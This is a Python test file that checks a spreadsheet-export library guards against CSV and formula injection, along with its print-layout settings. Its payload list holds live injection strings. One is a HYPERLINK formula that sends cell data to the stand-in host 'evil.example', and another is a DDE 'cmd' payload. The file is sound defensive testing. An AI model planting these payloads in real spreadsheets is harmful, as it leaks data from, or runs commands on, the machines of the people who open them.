"""No text becomes a formula in a spreadsheet we write (OWASP, CSV injection)."""

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mongcai.lib.spreadsheet import (
    FORMULA_TRIGGERS,
    csv_row,
    print_area_set,
    print_setup,
    wrapped_height,
    xlsx_cell,
    xlsx_row,
    xlsx_set,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _round_trip(book) -> list:
    buffer = io.BytesIO()
    book.save(buffer)
    return list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())


def test_formula_like_text_is_a_quoted_string_cell_in_both_workbook_modes():
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("x") if write_only else book.active
        sheet.append(xlsx_row(sheet, [*PAYLOADS, -5, Decimal("-1.5"), "Nguyễn Văn An"]))
        (row,) = _round_trip(book)
        assert [cell.data_type for cell in row[: len(PAYLOADS)]] == ["s"] * len(PAYLOADS)
        assert [cell.value for cell in row[: len(PAYLOADS)]] == PAYLOADS  # read back as typed
        assert [cell.quotePrefix for cell in row[: len(PAYLOADS)]] == [True] * 7 + [False]
        # Numbers stay numbers, plain text stays plain.
        assert (row[-3].value, row[-3].data_type) == (-5, "n")
        assert row[-2].value == -1.5 and row[-2].data_type == "n"
        assert not row[-1].quotePrefix


def test_set_cell_of_a_normal_sheet_is_never_a_formula():
    book = Workbook()
    xlsx_set(book.active, 2, 3, "=1+1")
    cell = _round_trip(book)[1][2]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_control_characters_are_dropped_instead_of_failing_the_export():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([xlsx_cell(sheet, "Nguyễn\x07 Văn\x1b An")])
    assert _round_trip(book)[0][0].value == "Nguyễn Văn An"


def test_csv_quotes_formula_like_text_and_keeps_numbers():
    text = io.StringIO()
    csv.writer(text).writerow(csv_row([*PAYLOADS, -5, None, "An"]))
    row = next(csv.reader(io.StringIO(text.getvalue())))
    assert row[: len(PAYLOADS)] == ["'" + p if p[0] in "=+-@\t\r" else p for p in PAYLOADS]
    assert row[len(PAYLOADS) :] == ["-5", "", "An"]


@given(st.text())
def test_no_text_ever_starts_a_csv_field_with_a_trigger(value):
    (field,) = csv_row([value])
    assert not field.startswith(FORMULA_TRIGGERS)


@given(st.text(max_size=50))
def test_no_text_ever_becomes_a_formula_cell(value):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([xlsx_cell(sheet, value)])
    for row in _round_trip(book):
        for cell in row:
            assert cell.data_type != "f"


def test_wrapped_height_counts_the_lines_the_longest_cell_needs():
    assert wrapped_height(["short", 12], [10, 5]) is None
    assert wrapped_height(["x" * 25, "y"], [10, 10]) == 45
    assert wrapped_height(["a\nb"], [10]) == 30


def test_print_setup_prints_a_wide_table_one_page_wide_with_its_header_on_each_page():
    """The summary's sources printed one column a page: every export that calls
    print_setup prints A4 landscape, one page wide, its header rows repeated."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Nguồn số liệu")
    print_setup(sheet)
    for line in range(40):
        sheet.append(xlsx_row(sheet, [f"Ô {line}.{c}" for c in range(6)]))
    print_area_set(sheet, columns=6, rows=40)
    framed = Workbook(write_only=True).create_sheet("x")
    print_setup(framed, title_rows=(8, 11))
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(buffer)["Nguồn số liệu"]
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.print_area == "'Nguồn số liệu'!$A$1:$F$40"
    assert framed.print_title_rows == "$8:$11"
